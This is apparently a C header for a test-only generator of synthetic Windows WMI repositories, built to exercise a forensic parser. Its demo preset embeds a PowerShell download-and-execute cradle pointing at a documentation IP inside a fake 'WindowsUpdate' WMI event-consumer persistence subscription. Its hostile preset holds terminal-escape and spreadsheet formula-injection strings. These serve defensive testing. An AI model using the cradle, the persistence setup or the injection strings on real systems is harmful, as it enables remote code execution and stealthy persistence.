/* cimgen: wmihunt's own writer of synthetic WMI CIM repositories, for tests
 * and benchmarks only (never shipped).
 *
 * It is written from shared/docs/cim-format-notes.md and the real bytes of
 * the corpus, not from lib/cim, so that a round trip through the reader is an
 * independent check. A caller builds a model (namespaces, classes,
 * properties, instances, deleted objects), then cimgen_write() lays it out as
 * INDEX.BTR + OBJECTS.DATA + mapping files, v2.2 (Vista+) or v2.1 (XP).
 *
 * Ownership: the model owns everything added to it; strings and values are
 * copied in, so callers may pass temporaries. Model structures are public so
 * that tests can compare the reader's output with what was written; treat
 * them as read-only. Layout fields (index, slot, level, nall...) are filled
 * by cimgen_finalize(), which cimgen_write() calls. */
#ifndef WH_TESTS_CIMGEN_H
#define WH_TESTS_CIMGEN_H

#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>

#ifdef __cplusplus
extern "C" {
#endif

/* CIM type codes (format notes §5.3). */
enum {
    CIMGEN_SINT16 = 0x02, CIMGEN_SINT32 = 0x03, CIMGEN_REAL32 = 0x04,
    CIMGEN_REAL64 = 0x05, CIMGEN_STRING = 0x08, CIMGEN_BOOLEAN = 0x0B,
    CIMGEN_OBJECT = 0x0D, CIMGEN_SINT8 = 0x10, CIMGEN_UINT8 = 0x11,
    CIMGEN_UINT16 = 0x12, CIMGEN_UINT32 = 0x13, CIMGEN_SINT64 = 0x14,
    CIMGEN_UINT64 = 0x15, CIMGEN_DATETIME = 0x65, CIMGEN_REFERENCE = 0x66,
    CIMGEN_CHAR16 = 0x67
};
#define CIMGEN_ARRAY 0x2000u
#define CIMGEN_TYPE_MASK 0xFFu

/* A value as the caller gives it. The property's CIM type decides how it is
 * encoded: INT/UINT for every integer type and char16 (the UTF-16 code
 * unit), REAL for real32/real64, BOOL, STR (UTF-8) for string, datetime
 * (DMTF text) and reference (object path). UNSET means "not given": an
 * instance then uses the class default. Object (0x0D) values are not
 * supported (no public description of embedded objects): only NULL. */
typedef enum cimgen_kind {
    CIMGEN_K_UNSET = 0, CIMGEN_K_NULL, CIMGEN_K_INT, CIMGEN_K_UINT,
    CIMGEN_K_REAL, CIMGEN_K_BOOL, CIMGEN_K_STR
} cimgen_kind;

typedef struct cimgen_val {
    cimgen_kind kind;
    bool array;
    size_t n; /* elements, when array */
    int64_t i;
    uint64_t u;
    double d;
    bool b;
    const char *s;
    const int64_t *ai;
    const uint64_t *au;
    const double *ad;
    const bool *ab;
    const char *const *as;
} cimgen_val;

static inline cimgen_val cimgen_null(void) { cimgen_val v = {.kind = CIMGEN_K_NULL}; return v; }
static inline cimgen_val cimgen_int(int64_t i) { cimgen_val v = {.kind = CIMGEN_K_INT, .i = i}; return v; }
static inline cimgen_val cimgen_uint(uint64_t u) { cimgen_val v = {.kind = CIMGEN_K_UINT, .u = u}; return v; }
static inline cimgen_val cimgen_real(double d) { cimgen_val v = {.kind = CIMGEN_K_REAL, .d = d}; return v; }
static inline cimgen_val cimgen_bool(bool b) { cimgen_val v = {.kind = CIMGEN_K_BOOL, .b = b}; return v; }
static inline cimgen_val cimgen_str(const char *s) { cimgen_val v = {.kind = CIMGEN_K_STR, .s = s}; return v; }
static inline cimgen_val cimgen_ints(const int64_t *a, size_t n) { cimgen_val v = {.kind = CIMGEN_K_INT, .array = true, .n = n, .ai = a}; return v; }
static inline cimgen_val cimgen_uints(const uint64_t *a, size_t n) { cimgen_val v = {.kind = CIMGEN_K_UINT, .array = true, .n = n, .au = a}; return v; }
static inline cimgen_val cimgen_reals(const double *a, size_t n) { cimgen_val v = {.kind = CIMGEN_K_REAL, .array = true, .n = n, .ad = a}; return v; }
static inline cimgen_val cimgen_bools(const bool *a, size_t n) { cimgen_val v = {.kind = CIMGEN_K_BOOL, .array = true, .n = n, .ab = a}; return v; }
static inline cimgen_val cimgen_strs(const char *const *a, size_t n) { cimgen_val v = {.kind = CIMGEN_K_STR, .array = true, .n = n, .as = a}; return v; }

/* Where a deleted object ends up (format notes §4). */
typedef enum cimgen_del {
    CIMGEN_LIVE = 0,
    CIMGEN_DEL_OLDMAP,  /* its page is unmapped now, still mapped by an older mapping file */
    CIMGEN_DEL_SLACK,   /* bytes kept in a live page, TOC entry removed */
    CIMGEN_DEL_UNALLOC  /* in a physical page that no mapping file references */
} cimgen_del;

typedef struct cimgen_qual {
    const char *name;
    cimgen_val v;
    uint8_t flavor;
} cimgen_qual;

struct cimgen_class;
struct cimgen_ns;

typedef struct cimgen_prop {
    const char *name;
    uint32_t type;          /* CIM type, CIMGEN_ARRAY for arrays */
    const char *refclass;   /* reference/object class for CIMTYPE "ref:X", or NULL */
    bool key;
    bool has_default;
    cimgen_val dflt;
    size_t nquals;
    cimgen_qual *quals;     /* besides CIMTYPE and key, which are implied */
    struct cimgen_class *origin;
    /* layout (cimgen_finalize) */
    uint16_t index;
    uint32_t slot;
    uint32_t level;
    size_t qcap;
} cimgen_prop;

typedef struct cimgen_class {
    struct cimgen_ns *ns;
    const char *name;
    const char *super_name;
    struct cimgen_class *super;  /* resolved by cimgen_finalize */
    uint64_t defined;            /* FILETIME */
    size_t nquals;
    cimgen_qual *quals;
    size_t nown;
    cimgen_prop **own;           /* in the order added */
    /* layout (cimgen_finalize): the whole derivation, index order */
    size_t nall;
    cimgen_prop **all;
    uint32_t level;              /* 0 for a root class */
    struct cimgen_class *keyclass; /* topmost class declaring the keys (KI_) */
    cimgen_del deleted;
    size_t id;                   /* position in cimgen_model.classes */
    size_t qcap, owncap;
} cimgen_class;

typedef struct cimgen_setval {
    const char *prop;
    cimgen_val v;
} cimgen_setval;

typedef struct cimgen_inst {
    struct cimgen_ns *ns;
    const char *class_name;
    cimgen_class *cls;       /* resolved by cimgen_finalize */
    uint64_t ts_written;     /* FILETIME "timestamp 1"; ts2 is the class's time */
    size_t nset;
    cimgen_setval *set;      /* values given, in the order given */
    cimgen_del deleted;
    cimgen_del stale_copy;   /* a live instance whose identical older copy is also left here */
    bool auto_namespace;     /* a __NAMESPACE instance made by finalize */
    size_t setcap;
} cimgen_inst;

typedef struct cimgen_ns {
    const char *path;        /* "root", "root\\subscription", "__SystemClass" */
    struct cimgen_ns *parent;
    size_t nclasses;
    cimgen_class **classes;
    size_t ninst;
    cimgen_inst **inst;
    size_t id;               /* position in cimgen_model.ns */
    size_t ccap, icap;
} cimgen_ns;

typedef struct cimgen_arena cimgen_arena;

typedef struct cimgen_model {
    size_t nns;
    cimgen_ns **ns;          /* creation order; "root" and "__SystemClass" always exist */
    size_t nclasses;
    cimgen_class **classes;  /* creation order, every namespace */
    size_t ninst;
    cimgen_inst **inst;
    bool finalized;
    char error[256];         /* last error, "" when none */
    cimgen_arena *arena;
    size_t nscap, ccap, icap;
} cimgen_model;

cimgen_model *cimgen_model_new(void);
void cimgen_model_free(cimgen_model *m);

/* Namespace by path (created with its parents when missing). "root" and
 * "__SystemClass" always exist. Paths use backslashes and start at root. */
cimgen_ns *cimgen_namespace(cimgen_model *m, const char *path);
cimgen_ns *cimgen_find_namespace(const cimgen_model *m, const char *path);

/* A class in ns (super may be NULL, and is looked for in ns, then in
 * __SystemClass, at finalize). defined: FILETIME of the definition. */
cimgen_class *cimgen_class_add(cimgen_model *m, const char *ns, const char *name,
                               const char *super, uint64_t defined);
cimgen_class *cimgen_find_class(const cimgen_model *m, const char *ns, const char *name);
void cimgen_class_qual(cimgen_model *m, cimgen_class *c, const char *name, cimgen_val v, uint8_t flavor);

/* Properties, in index order of this class. refclass: for references, the
 * class in "ref:X" (NULL: plain "ref"). dflt NULL or UNSET = no default. */
enum { CIMGEN_KEY = 1 };
cimgen_prop *cimgen_prop_add(cimgen_model *m, cimgen_class *c, const char *name, uint32_t type,
                             unsigned flags, const cimgen_val *dflt);
cimgen_prop *cimgen_ref_add(cimgen_model *m, cimgen_class *c, const char *name, const char *refclass,
                            unsigned flags);
void cimgen_prop_qual(cimgen_model *m, cimgen_prop *p, const char *name, cimgen_val v, uint8_t flavor);

/* An instance of ns:cls. Properties not given use the class default (or
 * are NULL when there is none); cimgen_null() makes one NULL explicitly. */
cimgen_inst *cimgen_instance_add(cimgen_model *m, const char *ns, const char *cls, uint64_t ts_written);
void cimgen_set(cimgen_model *m, cimgen_inst *in, const char *prop, cimgen_val v);
/* The value given for prop, or NULL when it was not given. */
const cimgen_val *cimgen_get(const cimgen_inst *in, const char *prop);
cimgen_inst *cimgen_find_instance(const cimgen_model *m, const char *ns, const char *cls,
                                  const char *keyprop, const char *keyval);

/* Marks an object deleted: it is kept only where `how` says. */
void cimgen_delete_instance(cimgen_inst *in, cimgen_del how);
void cimgen_delete_class(cimgen_class *c, cimgen_del how);
/* Keeps the instance live and also leaves a byte-identical older copy
 * where `how` says (what Windows leaves when it rewrites a page). */
void cimgen_stale_copy(cimgen_inst *in, cimgen_del how);

/* Resolves super classes, makes __NAMESPACE instances for namespaces that
 * lack one, lays out properties. Returns false (see m->error) when the
 * model is inconsistent. Idempotent; adding more after it re-opens it. */
bool cimgen_finalize(cimgen_model *m);

/* The property of cls (derivation included) named name; NULL when none. */
const cimgen_prop *cimgen_class_prop(const cimgen_class *c, const char *name);
/* True when the property has a default in this class (own or inherited),
 * and then *out is it. */
bool cimgen_class_default(const cimgen_class *c, const cimgen_prop *p, cimgen_val *out);
/* The instance's key as used for its index hash: key values in name order,
 * joined with U+FFFF (UTF-8 EF BF BF); "@" for a class without keys. */
const char *cimgen_instance_keytext(cimgen_model *m, const cimgen_inst *in);

/* Name hash as stored in keys (upper case, UTF-16LE, SHA-256 or MD5 on XP,
 * upper-case hex). out needs 65 bytes. */
void cimgen_hash_name(const char *utf8, bool xp, char out[65]);

typedef struct cimgen_opts {
    bool xp;               /* v2.1 (XP) instead of v2.2 */
    bool xp_fs_subdir;     /* XP: write into DIR/FS, as on a real system */
    uint64_t seed;         /* record ids, page shuffling, mapping choice */
    bool shuffle_off;      /* physical page = logical page, no free pages inside */
    bool index_root_page0; /* v2.2: the root takes logical index page 0, so no
                              child pointer is 0 (dissect.cim and python-cim
                              take a child 0 as "none"; Windows does not) */
} cimgen_opts;

/* Where a deleted object was put (for tests). */
typedef struct cimgen_placed {
    const void *obj;          /* the cimgen_inst or cimgen_class */
    bool is_class;
    cimgen_del how;
    uint32_t logical_page;    /* UINT32_MAX for an unallocated page */
    uint32_t physical_page;
    uint32_t record_id;
    uint32_t size;
    uint64_t offset;          /* absolute offset in OBJECTS.DATA */
    uint32_t pages;           /* physical pages it covers (an unallocated object larger
                                 than a page runs over consecutive physical pages) */
    bool stale_copy;          /* a copy of a live instance */
} cimgen_placed;

/* Facts about what cimgen_write() wrote, to compare with a reader. */
typedef struct cimgen_report {
    char dir[1024];               /* folder holding the files */
    char current_map[16];         /* e.g. "MAPPING2.MAP" */
    uint32_t sequence, generation;
    unsigned nmaps;
    uint32_t data_pages, index_pages;        /* physical pages in the files */
    uint32_t data_entries, index_entries;    /* logical entries in the current map */
    uint32_t data_free, index_free;          /* free-list lengths of the current map */
    uint32_t data_unmapped, index_unmapped;  /* logical entries mapped to nothing */
    uint32_t data_unallocated, index_unallocated; /* physical pages the current map does not use */
    uint32_t index_root, index_depth, index_tree_pages;
    size_t keys, keys_with_data;
    size_t namespaces, classes, instances;   /* live */
    size_t refobjects;                       /* reference records behind KI_/IR_/R_ keys */
    size_t spanning;                         /* objects continued on further pages */
    uint64_t objects_bytes;                  /* record bytes written (live) */
    size_t nplaced;
    cimgen_placed placed[64];                /* deleted objects */
} cimgen_report;

/* Writes the model into dir (created if missing; existing repository files
 * are replaced). rep may be NULL. Returns 0, or -1 with m->error set. */
int cimgen_write(cimgen_model *m, const char *dir, const cimgen_opts *opts, cimgen_report *rep);

/* --- presets ----------------------------------------------------------- */

/* What every real repository has that matters here (namespace names in
 * lower case; Windows itself stores "CIMV2" and "DEFAULT", and names are
 * compared without case): __SystemClass with
 * __SystemClass, __NAMESPACE, __Provider, __Win32Provider,
 * __IndicationRelated, __EventFilter, __EventConsumer,
 * __FilterToConsumerBinding; namespaces root, root\subscription,
 * root\cimv2, root\default; the standard consumer classes in
 * root\subscription and root\default; in root\subscription the default SCM
 * Event Log filter, consumer and binding. Timestamps are fixed. */
void cimgen_windows_defaults(cimgen_model *m);

/* Definition time of the preset classes (2019-12-07T09:17:28Z region). */
extern const uint64_t cimgen_preset_time;

/* A consumer property for cimgen_add_subscription. */
typedef struct cimgen_kv {
    const char *name;
    cimgen_val v;
} cimgen_kv;

/* Filter Name=filter_name (Query/WQL, EventNamespace root\cimv2), consumer
 * consumer_class Name=consumer_name with props, and a binding between
 * them, all in ns and written at ts. The binding's references are relative
 * paths, as WMI stores them. Returns the binding. */
cimgen_inst *cimgen_add_subscription(cimgen_model *m, const char *ns, const char *filter_name,
                                     const char *query, const char *consumer_class,
                                     const char *consumer_name, const cimgen_kv *props, size_t nprops,
                                     uint64_t ts);

/* The content of `wh-cimgen demo`: the Windows defaults, plus in
 * root\subscription a CommandLineEventConsumer subscription running an
 * encoded PowerShell download cradle, in root\default an
 * ActiveScriptEventConsumer subscription, and in root\cimv2 a class
 * Win32_AuditCode whose default holds a payload big enough to span pages. */
void cimgen_demo(cimgen_model *m);

/* The content of `wh-cimgen hostile` (issue 6, safe output): the Windows
 * defaults plus one CommandLineEventConsumer subscription in
 * root\subscription whose consumer name is CIMGEN_HOSTILE_NAME and whose
 * CommandLineTemplate is CIMGEN_HOSTILE_CMD followed by 1 MiB of 'A'.
 * Both carry terminal escapes, a C1 CSI, a leading '=' and a lone UTF-16
 * surrogate (written as the WTF-8 bytes ED A0 80, stored as the unit
 * 0xD800). A CIM string ends at its first NUL, so NUL cannot be stored. */
#define CIMGEN_HOSTILE_NAME "=evil\x1b[2J\x1b]0;pwned\x07\xc2\x9b\xed\xa0\x80name"
#define CIMGEN_HOSTILE_CMD "=cmd|' /c calc'!A0\x1b[31m\xed\xa0\x80"
#define CIMGEN_HOSTILE_BIG (1u << 20)
void cimgen_hostile(cimgen_model *m);
#define CIMGEN_DEMO_CMD_FILTER "WindowsUpdateFilter"
#define CIMGEN_DEMO_CMD_CONSUMER "WindowsUpdateConsumer"
#define CIMGEN_DEMO_CMD_ENCODED "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/update.ps1')"
#define CIMGEN_DEMO_AS_NS "root\\default"
#define CIMGEN_DEMO_AS_FILTER "UserLogonTrigger"
#define CIMGEN_DEMO_AS_CONSUMER "UserLogonScript"

/* What `wh-cimgen deleted` does after cimgen_demo: the root\default
 * ActiveScript binding is left in page slack, its consumer in an
 * unallocated page, its filter in a page only an older mapping maps. */
void cimgen_demo_delete(cimgen_model *m);

/* Adds namespaces root\bench\NsNN with classes and instances until the
 * records add up to at least bytes (for benchmarks). Strings are shared,
 * not copied, to keep memory down. */
void cimgen_bulk(cimgen_model *m, uint64_t bytes, uint64_t seed);

/* FILETIME of a UTC date, for readable timestamps in tests. */
uint64_t cimgen_filetime(int year, int mon, int day, int hour, int min, int sec, uint32_t usec);

#ifdef __cplusplus
}
#endif
#endif
